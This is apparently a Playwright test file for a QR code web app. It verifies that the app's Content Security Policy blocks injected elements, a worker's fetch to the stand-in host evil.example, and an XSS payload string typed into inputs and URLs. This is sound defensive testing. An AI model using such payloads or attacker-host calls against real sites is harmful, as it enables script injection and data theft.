import type { Page } from '@playwright/test'
import { ACTION_ATTACKS, ELEMENT_ATTACKS } from './support/attacks'
import type { ConsoleGuard } from './support/console-guard'
import { QrPage } from './support/qr-page'
import { expect, test } from './support/test'

const VIOLATION = /^Policy violation/

function countDialogs(page: Page) {
  const dialogs: string[] = []
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  return dialogs
}

/** Lets `attack` happen, and waits for the violation that it must make, and no other. */
async function expectBlocked(
  consoleGuard: ConsoleGuard,
  { name, directive }: { name: string; directive: string },
  attack: () => Promise<unknown>,
): Promise<void> {
  const earlier = consoleGuard.matching(VIOLATION).length
  // Some also throw: the browser's way of blocking them.
  await attack().catch(() => {})
  await expect
    .poll(() => [...new Set(consoleGuard.matching(VIOLATION).slice(earlier))], name)
    .toEqual([expect.stringMatching(`^Policy violation: ${directive} `)])
}

test('PL-03, PL-04: whatever is injected is blocked, and a fetch to elsewhere from our worker too', async ({
  page,
  consoleGuard,
}) => {
  consoleGuard.expectLines(/Content Security Policy|Policy violation|evil\.example/)
  const dialogs = countDialogs(page)
  const qr = new QrPage(page)
  const [worker] = await Promise.all([page.waitForEvent('worker'), qr.open()])
  await qr.text.fill('hello')
  await qr.settled()
  await expectBlocked(consoleGuard, { name: 'a worker', directive: 'connect-src' }, async () => {
    const outcome = worker.evaluate(() => fetch('https://evil.example/').then(String, String))
    expect(await outcome).toMatch(/^TypeError/)
  })
  for (const [name, directive, ...element] of ELEMENT_ATTACKS) {
    await expectBlocked(consoleGuard, { name, directive }, () =>
      page.evaluate(([tag, properties]) => {
        document.body.append(Object.assign(document.createElement(tag), properties))
      }, element),
    )
  }
  for (const [name, directive, run] of ACTION_ATTACKS) {
    await expectBlocked(consoleGuard, { name, directive }, () => page.evaluate(run))
  }
  expect(dialogs).toEqual([])
})

test('PL-03: nothing that a visitor types or an address carries is run', async ({
  page,
  consoleGuard,
}) => {
  consoleGuard.expectLines(/404 \(Not Found\)/)
  const dialogs = countDialogs(page)
  const script = '<script>alert(1)</script><img src=x onerror=alert(1)>'
  await page.goto(`/${encodeURIComponent(script)}?q=${script}#${script}`)
  await page.goto(`/?q=${script}#${script}`)
  const qr = new QrPage(page)
  await qr.open()
  await qr.text.fill(script)
  await qr.settled()
  consoleGuard.expectLines(/Invalid hex color/)
  await qr.foreground.fill(script)
  await expect(qr.advice).toBeVisible()
  await expect(page.getByRole('main').locator('script, img')).toHaveCount(0)
  expect(dialogs).toEqual([])
})
